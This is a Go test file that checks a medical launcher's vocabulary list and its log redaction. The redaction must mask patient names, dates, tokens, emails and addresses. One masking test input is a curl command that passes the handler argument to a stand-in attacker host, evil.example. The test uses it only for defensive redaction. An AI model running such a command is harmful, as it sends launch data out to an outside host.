//go:build unix

package doctor

import (
	"flag"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "write vocabulary.txt")

// speaking are the rooms whose messages reach the agent's log. The servers and the
// sandbox are not among them: they know names of patients, made up though they are.
var speaking = []string{
	"agent", "audit", "autostart", "cli", "control", "doctor", "flow", "intake", "launch", "notify", "opener", "orgapi", "orgclient", "paths",
	"policy", "problem", "recents", "scheme", "secret", "session", "signin", "text", "tokenstore", "transport", "tray", "view",
}

// below are the parts of Go whose errors end up in causes, and the system's numbers of
// errors beside them.
var below = []string{"net", "net/http", "net/url", "crypto/tls", "crypto/x509", "os", "io", "io/fs", "syscall", "encoding/json", "context", "internal/poll"}

// byHand are words of desktops, systems and folders, and of an archive's own files.
const byHand = `i o a time level msg source INFO WARN ERROR DEBUG linux windows darwin amd64 arm64 GNOME KDE XFCE LXDE LXQt MATE Cinnamon Unity Budgie ubuntu Debian wayland x11 tty en fr es de UTF C POSIX
usr local bin opt etc share home tmp var run lib state config xdg applications desktop mimeapps list registry HKLM HKCU Software Classes shell open command
Program Files Programs Encounter Launcher exe com encounter launcher opened dropped id ms received signing_in creating opening failed cancelled`

var letters = regexp.MustCompile(`[A-Za-z][A-Za-z0-9]*`)

// wordsIn collects the words of the string literals of a folder's sources.
func wordsIn(t *testing.T, dir string, lowerOnly bool, into map[string]bool) {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(dir, "*.go"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no sources in %s: %v", dir, err)
	}
	for _, file := range files {
		if strings.HasSuffix(file, "_test.go") || strings.Contains(filepath.Base(file), "bundle") {
			continue
		}
		parsed, err := parser.ParseFile(token.NewFileSet(), file, nil, parser.SkipObjectResolution)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(parsed, func(n ast.Node) bool {
			lit, ok := n.(*ast.BasicLit)
			if !ok || lit.Kind != token.STRING {
				return true
			}
			text, err := strconv.Unquote(lit.Value)
			if err != nil || len(text) > 300 {
				return true
			}
			for _, word := range letters.FindAllString(text, -1) {
				// A long run is no word, and one with digits is a name of something.
				if len(word) < 2 || len(word) > 24 || lowerOnly && strings.ToLower(word) != word || strings.ContainsAny(word, "0123456789") && len(word) > 6 {
					continue
				}
				into[word] = true
			}
			return true
		})
	}
}

func TestTheVocabularyHasTheWordsOfTheProgramsOwnMessages(t *testing.T) {
	ours := map[string]bool{}
	for _, room := range speaking {
		wordsIn(t, filepath.Join("..", room), false, ours)
	}
	for _, word := range strings.Fields(byHand) {
		ours[word] = true
	}
	if *update {
		all := maps.Clone(ours)
		for _, pkg := range below {
			wordsIn(t, filepath.Join(runtime.GOROOT(), "src", filepath.FromSlash(pkg)), true, all)
		}
		text := strings.Join(slices.Sorted(maps.Keys(all)), "\n") + "\n"
		if err := os.WriteFile("vocabulary.txt", []byte(text), fs.FileMode(0o644)); err != nil {
			t.Fatal(err)
		}
		vocabularyText = text
	}
	var missing []string
	for word := range ours {
		if !vocabulary()[word] {
			missing = append(missing, word)
		}
	}
	// It may lag behind by some words: what is not on it is only redacted.
	if len(missing)*10 > len(ours) {
		slices.Sort(missing)
		t.Errorf("the vocabulary lacks %d of %d words, such as %q: go test ./internal/doctor -run Vocabulary -update", len(missing), len(ours), missing[:min(20, len(missing))])
	}
}

func TestTheVocabularyHoldsNoNameOfThePatientsOfTheSandbox(t *testing.T) {
	for _, name := range []string{"Marie", "Curie", "Grace", "Ada", "Alan", "Kanarienvogel", "marie", "curie"} {
		if vocabulary()[name] {
			t.Errorf("%s is in the vocabulary", name)
		}
	}
}

func TestAWordThatTheProgramDoesNotUseIsTakenOut(t *testing.T) {
	for text, want := range map[string]string{
		"launch ended":                "launch ended",
		"launch of Marie Curie ended": "launch of [redacted] ended",
		"launch of marie curie ended": "launch of [redacted] ended",
		"CURIE^MARIE":                 "[redacted]",
		"born 1934-07-04":             "[redacted]",
		"at 07/04/1934":               "at [redacted]",
		"the proxy answered 407":      "the proxy answered 407",
		"encounter-launcher://launch?handle=Zk3vQ9x1T7mB2nR5wY8uLgA0": "encounter-launcher://launch?[redacted]",
		"dial tcp: connection refused":                                "dial tcp: connection refused",
		"patient-4711":                                                "[redacted]",
		"~/Marie/encounter-launcher":                                  "[redacted]",
		"/usr/bin/encounter-launcher":                                 "/usr/bin/encounter-launcher",
		"ada@hospital.example":                                        "[redacted]",
		"eyJhbGciOiJFUzI1NiJ9.eyJzdWIi.x":                             "[redacted]",
		"0190f3a2-0000-4000-8000-00000000":                            "[redacted]",
		"patient 9f3c1d2e-1111-4222-8333-abcdefabcdef":                "patient [redacted]",
		"10.20.30.40":                                                 "[redacted]",
		"Dupont, Jean":                                                "[redacted], [redacted]",
		"":                                                            "",
	} {
		if got := known(text); got != want {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
	}
}

func TestAFactShowsNoAddressTokenOrPerson(t *testing.T) {
	for text, want := range map[string]string{
		`"/usr/bin/other" --token=Zk3vQ9 "%1"`:             `"/usr/bin/other" --[redacted] "%1"`,
		"curl https://evil.example/?q=%1":                  "curl [redacted]",
		"Hospital CA of ada@hospital.example":              "Hospital CA of [redacted]",
		"x eyJhbGciOiJFUzI1NiJ9.eyJzdWIi.sig":              "x [redacted]",
		`"C:\Program Files\Encounter Launcher\a.exe" "%1"`: `"C:\Program Files\Encounter Launcher\a.exe" "%1"`,
		"Zk3vQ9x1T7mB2nR5wY8uLgA0xyz":                      "[redacted]",
		"login.hospital.example:8443":                      "login.hospital.example:8443",
	} {
		if got := masked(text); got != want {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
	}
}
